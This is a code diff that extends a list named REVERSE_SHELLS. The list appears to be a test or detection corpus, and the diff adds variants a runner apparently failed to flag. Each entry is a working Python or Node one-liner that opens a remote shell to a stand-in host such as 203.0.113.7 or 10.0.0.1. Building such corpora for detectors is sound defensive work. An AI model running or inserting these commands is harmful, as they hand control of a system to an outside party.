@@ -81,6 +81,9 @@ REVERSE_SHELLS = [
     "python3 -c \"import socket,subprocess,os;s=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.dup2(s.fileno(),2);subprocess.call(['/bin/sh','-i'])\"",
     "python3 -c \"import socket,subprocess;s=socket.create_connection(('203.0.113.7',443));subprocess.Popen(['/bin/bash','-i'],stdin=s.fileno(),stdout=s.fileno(),stderr=s.fileno()).wait()\"",
     "python3 -c \"import socket,subprocess;s=socket.create_connection(('203.0.113.7',443));subprocess.run('sh',stdin=s,stdout=s,stderr=s)\"",
+    # (a module's `run` given a program name: fix16's task-library runner read subprocess.run('sh', …) as a bare `sh`)
+    "python3 -c \"import socket,subprocess;s=socket.create_connection(('203.0.113.7',443));subprocess.run('bash',stdin=s,stdout=s,stderr=s)\"",
+    "python3 -c \"import socket,subprocess as sp;s=socket.create_connection(('203.0.113.7',443));sp.run(['sh','-i'],stdin=s,stdout=s,stderr=s)\"",
     "python3 -c \"import socket,os;s=socket.socket();s.connect(('x.example',9001));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);os.execv('/bin/zsh',['zsh'])\"",
     "node -e \"const net=require('net'),cp=require('child_process');const sh=cp.spawn('/bin/sh',[]);const c=new net.Socket();c.connect(4444,'10.0.0.1',()=>{c.pipe(sh.stdin);sh.stdout.pipe(c);sh.stderr.pipe(c)})\"",
     "node -e \"const s=require('net').connect(4444,'10.0.0.1');const p=require('child_process').spawn('bash',['-i']);s.pipe(p.stdin);p.stdout.pipe(s)\"",
